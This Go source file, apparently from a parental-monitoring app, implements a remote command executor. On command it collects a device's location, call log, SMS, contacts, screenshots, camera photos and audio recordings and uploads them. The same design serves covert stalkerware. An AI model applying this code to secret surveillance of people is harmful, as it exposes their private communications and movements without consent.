package command

import (
	"context"
	"fmt"
	"log/slog"
	"time"

	"github.com/google/uuid"

	"github.com/kidsafe/beacon/internal/store"
	"github.com/kidsafe/beacon/internal/uploader"
)

// Collector interfaces. The platform-specific capture code lives behind
// these; the executor only sequences it.
type (
	// LocationProvider reports the device's current position as the raw
	// map written to the location telemetry node.
	LocationProvider interface {
		CurrentLocation(ctx context.Context) (map[string]any, error)
	}

	CallLogReader interface {
		RecentCalls(ctx context.Context, limit int) ([]uploader.Call, error)
	}

	SMSReader interface {
		RecentSMS(ctx context.Context, limit int) ([]uploader.SMS, error)
	}

	ContactsReader interface {
		Contacts(ctx context.Context) ([]uploader.Contact, error)
	}

	ScreenCapturer interface {
		CaptureScreen(ctx context.Context) ([]byte, error)
	}

	CameraCapturer interface {
		TakePicture(ctx context.Context) ([]byte, error)
	}

	AudioRecorder interface {
		Record(ctx context.Context, d time.Duration) ([]byte, error)
	}

	DeviceControl interface {
		Vibrate(ctx context.Context, d time.Duration) error
	}

	// UsageStatsReader reads the platform's app usage counters. Consumed
	// by the periodic snapshot job rather than a command.
	UsageStatsReader interface {
		Snapshots(ctx context.Context) ([]uploader.AppUsageSnapshot, error)
	}
)

// TelemetrySink receives records recovered by command handlers. Satisfied by
// the uploader.
type TelemetrySink interface {
	UploadCall(ctx context.Context, c uploader.Call) error
	UploadSMS(ctx context.Context, s uploader.SMS) error
	UploadContact(ctx context.Context, c uploader.Contact) error
	UploadLocation(ctx context.Context, date, uniqueID string, location map[string]any) error
}

// BlobStore receives capture bytes and returns a durable reference, which
// the handler records as the command result.
type BlobStore interface {
	UploadCommandScreenshot(ctx context.Context, data []byte) (string, error)
	UploadCameraCapture(ctx context.Context, data []byte) (string, error)
	UploadAudioRecording(ctx context.Context, data []byte) (string, error)
}

// Handler runs one command and returns the result text recorded on the
// command node.
type Handler func(ctx context.Context, cmd Command) (string, error)

// Registry maps command names to handlers and performs the terminal
// executed write after a handler succeeds.
type Registry struct {
	store    store.Client
	paths    store.Paths
	logger   *slog.Logger
	now      func() time.Time
	handlers map[string]Handler
}

func NewRegistry(client store.Client, paths store.Paths, logger *slog.Logger) *Registry {
	if logger == nil {
		logger = slog.Default()
	}
	return &Registry{
		store:    client,
		paths:    paths,
		logger:   logger,
		now:      time.Now,
		handlers: make(map[string]Handler),
	}
}

// Register installs a handler for a command name, replacing any previous
// one.
func (r *Registry) Register(name string, h Handler) {
	r.handlers[name] = h
}

// Execute runs the command's handler and, on success, writes the terminal
// executed status with the handler's result. A handler error is returned
// unwritten; the channel records the failed status.
func (r *Registry) Execute(ctx context.Context, cmd Command, date, timestamp string) error {
	h, ok := r.handlers[cmd.Command]
	if !ok {
		return fmt.Errorf("unknown command %q", cmd.Command)
	}

	result, err := h(ctx, cmd)
	if err != nil {
		return err
	}

	path := r.paths.Command(date, timestamp)
	nowMillis := r.now().UnixMilli()
	_, err = r.store.Update(ctx, path, func(current map[string]any) map[string]any {
		if current == nil {
			current = make(map[string]any)
		}
		current["status"] = StatusExecuted
		current["result"] = result
		current["lastUpdated"] = nowMillis
		return current
	})
	if err != nil {
		return fmt.Errorf("write executed status: %w", err)
	}
	r.logger.Info("command executed", "command", cmd.Command, "date", date, "timestamp", timestamp)
	return nil
}

// Collectors bundles the device capabilities available to the default
// command set. Nil fields leave their commands unregistered.
type Collectors struct {
	Location LocationProvider
	Calls    CallLogReader
	SMS      SMSReader
	Contacts ContactsReader
	Screen   ScreenCapturer
	Camera   CameraCapturer
	Audio    AudioRecorder
	Device   DeviceControl
	Usage    UsageStatsReader
}

// RegisterDefaults installs the standard command set for the collectors
// present.
func (r *Registry) RegisterDefaults(col Collectors, sink TelemetrySink, blobs BlobStore) {
	if col.Location != nil && sink != nil {
		r.Register("get_location", func(ctx context.Context, cmd Command) (string, error) {
			loc, err := col.Location.CurrentLocation(ctx)
			if err != nil {
				return "", fmt.Errorf("get location: %w", err)
			}
			date := r.now().Format("2006-01-02")
			if err := sink.UploadLocation(ctx, date, uuid.NewString(), loc); err != nil {
				return "", err
			}
			return fmt.Sprintf("location captured: %v,%v", loc["latitude"], loc["longitude"]), nil
		})
	}

	if col.Calls != nil && sink != nil {
		r.Register("recover_calls", func(ctx context.Context, cmd Command) (string, error) {
			calls, err := col.Calls.RecentCalls(ctx, cmd.IntParam("count", 50))
			if err != nil {
				return "", fmt.Errorf("read call log: %w", err)
			}
			for _, c := range calls {
				if err := sink.UploadCall(ctx, c); err != nil {
					return "", err
				}
			}
			return fmt.Sprintf("uploaded %d calls", len(calls)), nil
		})
	}

	if col.SMS != nil && sink != nil {
		r.Register("recover_sms", func(ctx context.Context, cmd Command) (string, error) {
			messages, err := col.SMS.RecentSMS(ctx, cmd.IntParam("count", 50))
			if err != nil {
				return "", fmt.Errorf("read sms: %w", err)
			}
			for _, m := range messages {
				if err := sink.UploadSMS(ctx, m); err != nil {
					return "", err
				}
			}
			return fmt.Sprintf("uploaded %d messages", len(messages)), nil
		})
	}

	if col.Contacts != nil && sink != nil {
		r.Register("retrieve_contacts", func(ctx context.Context, cmd Command) (string, error) {
			contacts, err := col.Contacts.Contacts(ctx)
			if err != nil {
				return "", fmt.Errorf("read contacts: %w", err)
			}
			for _, c := range contacts {
				if err := sink.UploadContact(ctx, c); err != nil {
					return "", err
				}
			}
			return fmt.Sprintf("uploaded %d contacts", len(contacts)), nil
		})
	}

	if col.Device != nil {
		r.Register("vibrate", func(ctx context.Context, cmd Command) (string, error) {
			d := time.Duration(cmd.IntParam("duration_ms", 1000)) * time.Millisecond
			if err := col.Device.Vibrate(ctx, d); err != nil {
				return "", fmt.Errorf("vibrate: %w", err)
			}
			return fmt.Sprintf("vibrated for %s", d), nil
		})
	}

	if col.Screen != nil && blobs != nil {
		r.Register("take_screenshot", func(ctx context.Context, cmd Command) (string, error) {
			data, err := col.Screen.CaptureScreen(ctx)
			if err != nil {
				return "", fmt.Errorf("capture screen: %w", err)
			}
			return blobs.UploadCommandScreenshot(ctx, data)
		})
	}

	if col.Camera != nil && blobs != nil {
		r.Register("take_picture", func(ctx context.Context, cmd Command) (string, error) {
			data, err := col.Camera.TakePicture(ctx)
			if err != nil {
				return "", fmt.Errorf("take picture: %w", err)
			}
			return blobs.UploadCameraCapture(ctx, data)
		})
	}

	if col.Audio != nil && blobs != nil {
		r.Register("record_audio", func(ctx context.Context, cmd Command) (string, error) {
			d := time.Duration(cmd.IntParam("duration_s", 30)) * time.Second
			data, err := col.Audio.Record(ctx, d)
			if err != nil {
				return "", fmt.Errorf("record audio: %w", err)
			}
			return blobs.UploadAudioRecording(ctx, data)
		})
	}
}
